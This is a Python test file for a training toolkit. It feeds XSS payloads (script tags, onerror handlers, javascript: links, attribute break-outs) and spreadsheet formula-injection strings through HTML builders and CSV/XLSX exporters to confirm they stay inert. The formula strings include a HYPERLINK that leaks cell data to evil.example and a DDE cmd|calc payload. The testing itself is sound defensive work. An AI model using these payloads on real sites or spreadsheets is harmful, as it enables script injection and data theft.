"""Hostile text through every HTML builder and the spreadsheet writers: text stays text.

One attack table (script tags, event handlers, javascript: links in HTML and Markdown,
attribute break-outs, template syntax, a 100,000-character string, formula injection) goes
through each place a learner's, trainer's or author's words become HTML or a spreadsheet
cell. An HTML parser, not a substring search, decides whether any live markup came out.
"""

from __future__ import annotations

import base64
import csv
import io
import time
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import ipywidgets as w
import pytest

from toolkit.app.journey import LearnerApp, _summary_page
from toolkit.cases import load_case, load_library
from toolkit.i18n import translator
from toolkit.scoring.limits import RATIONALE_MAX_CHARS
from toolkit.storage import open_store
from toolkit.widgets import feedback as fb
from toolkit.widgets.decision import DecisionView
from toolkit.widgets.html import esc, markdown, tag, text_tag

FILES = Path(__file__).parent / "files"
LONG = "<script>alert(1)</script>" * 4000  # 100,000 characters
ATTACKS = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)"></iframe>',
    "' onmouseover='alert(1)",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "<style>body{display:none}</style>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    LONG,
]
IDS = [a[:24] for a in ATTACKS[:-1]] + ["100k"]
DANGEROUS_TAGS = {"script", "iframe", "img", "svg", "object", "embed", "link", "meta", "base",
                  "form", "input", "style"}  # fmt: skip


class Markup(HTMLParser):
    """Every tag and attribute a browser would build from some HTML, and its visible text."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def live(self, allowed: set[str] = frozenset()) -> list[str]:
        """What would run or load: dangerous tags, on* handlers, script URLs."""
        found = []
        for name, attrs in self.tags:
            if name in DANGEROUS_TAGS - allowed:
                found.append(f"<{name}>")
            for key, value in attrs.items():
                if key == "href" and "download" in attrs and (value or "").startswith("data:"):
                    continue  # the app's own "download my summary": its content is checked
                if key.startswith("on"):
                    found.append(f"{name}[{key}]")
                scheme = (value or "").strip().lower().replace("\t", "").replace("\n", "")
                if key in {"href", "src", "action", "formaction"} and scheme.startswith(
                    ("javascript:", "vbscript:", "data:text/html")
                ):
                    found.append(f"{name}[{key}={value[:30]}]")
        return found


def inert(html: str, allowed: set[str] = frozenset()) -> str:
    """Assert no live markup; the visible text."""
    markup = Markup(html)
    assert markup.live(allowed) == []
    return "".join(markup.text)


@pytest.mark.parametrize("attack", ATTACKS, ids=IDS)
def test_text_and_attributes_are_escaped(attack):
    """Does plain text, in content and in attributes, come out as exactly that text?"""
    html = text_tag("p", attack, title=attack) + tag("span", esc(attack), data_x=attack)
    assert inert(html) == attack + attack
    markup = Markup(html)
    assert [attrs for _, attrs in markup.tags] == [{"title": attack}, {"data-x": attack}]


@pytest.mark.parametrize("attack", ATTACKS, ids=IDS)
def test_markdown_is_inert(attack):
    """Does Markdown from a case file keep raw HTML and script links as text, quickly?"""
    began = time.perf_counter()
    html = markdown(attack)
    assert time.perf_counter() - began < 2
    inert(html)


@pytest.mark.parametrize("attack", ATTACKS, ids=IDS)
def test_feedback_and_summary_are_inert(attack):
    """Do feedback lines, ending titles and scenario titles show as text in the learner views?"""
    result = {"points": 1, "max_points": 2, "feedback": [attack], "concepts": [],
              "misconceptions": [], "evidence": [{"id": "C-timely", "text": attack}]}  # fmt: skip
    assert attack in inert(fb.decision_feedback(result))

    ending = type("Ending", (), {"outcome": "harmed", "title": attack, "text": attack})()
    report = {"score": 0.5, "points": 1, "max_points": 2, "steps": {}, "misconceptions": []}
    summary = fb.summary(report, ending, attack)
    assert attack in inert(summary)
    page = _summary_page(attack, summary, translator("en"))
    assert attack in inert(page, allowed={"meta", "style"})


def test_case_file_fields_are_inert_in_decision_views():
    """Do a hostile case's prompts, titles, options and chronology stay text in the views?"""
    scenario = load_case(FILES / "scenarios" / "sc-hostile-text.yaml")
    view = DecisionView(scenario.decision("d1"), 1)
    assert "__pwned" in inert(view.header.value)
    assert "__pwned" in inert(view.rationale.label.value)
    labels = view.step.radio.options
    assert any("onerror" in label for label, _ in labels), "option text is a plain label"
    for language in ("en", "cy"):
        page = SimpleNamespace(t=translator(language))  # what the method reads of the app
        assert "__pwned" in inert(LearnerApp._chronology_html(page, scenario, None))


def app_html(widget: w.Widget) -> list[str]:
    """Every HTML widget's value under `widget`: what the browser sets as innerHTML."""
    found = [widget.value] if isinstance(widget, w.HTML) else []
    for child in getattr(widget, "children", ()):
        found += app_html(child)
    return found


def test_learner_app_keeps_cohort_names_rationales_and_trainer_notes_inert(tmp_path):
    """Through the real app: a hostile cohort name, rationale and trainer's note stay text?"""
    store = open_store(f"sqlite:///{tmp_path / 'store.db'}")
    library = load_library([FILES])
    cohort = store.add_cohort(ATTACKS[1] + ATTACKS[5], ["sc-hostile-text"])
    app = LearnerApp(library, store)
    app.cohort = cohort
    app.show_picker()
    assert ATTACKS[1] in "".join(inert(h, allowed={"style"}) for h in app_html(app.widget))

    app.open_scenario("sc-hostile-text")
    assert app.submit("d1", {"choice": "a", "rationale": LONG}) is None  # over the limit
    assert "Your reasoning is 100,000 characters long" in app.view.message.value
    app.submit("d1", {"choice": "a", "rationale": LONG[:RATIONALE_MAX_CHARS]})
    app.submit("d2", {"choice": "a"})
    app.submit("d3", {"choice": "a"})
    first = store.answers(app.attempt["id"])[0]
    store.add_override(first["id"], ATTACKS[3], [], 0.0, ATTACKS[0] + ATTACKS[2])
    app.error(ATTACKS[4])
    app._render_summary()

    shown = "".join(inert(h, allowed={"style"}) for h in app_html(app.widget))
    assert ATTACKS[0] + ATTACKS[2] in shown and ATTACKS[4] in shown
    link = Markup("".join(app_html(app.widget)))
    (download,) = [a["href"] for t, a in link.tags if t == "a" and "download" in a]
    page = base64.b64decode(download.split(",", 1)[1]).decode()
    assert ATTACKS[0] + ATTACKS[2] in inert(page, allowed={"meta", "style"})
    assert store.answers(app.attempt["id"])[0]["rationale"] == LONG[:RATIONALE_MAX_CHARS]
    store.close()


# A carriage return also ends a row in Excel and LibreOffice: the exporter quotes every
# field, so a bare "\r" inside a rationale cannot start a new row with a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for your results")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "I agree\r=cmd|' /C calc'!A0",
]


def spreadsheet_module() -> Any:
    return pytest.importorskip(
        "toolkit.export.spreadsheet", reason="toolkit/export is the workshop engineer's"
    )


@pytest.mark.parametrize("formula", FORMULAS, ids=range(len(FORMULAS)))
def test_csv_and_xlsx_never_hold_a_live_formula(formula):
    """Is a formula typed as a rationale or name exported as text, in CSV and in XLSX?"""
    import openpyxl
    import pandas as pd

    spreadsheet = spreadsheet_module()
    frame = pd.DataFrame({"display_name": [formula], "rationale": [[formula, "x"]],
                          formula: ["column named like a formula"]})  # fmt: skip
    text = spreadsheet.to_csv(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))  # as a spreadsheet splits rows
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(spreadsheet.FORMULA_STARTS)], cells

    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.to_xlsx({"answers": frame})))
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            assert not str(cell.value or "").startswith(spreadsheet.FORMULA_STARTS)
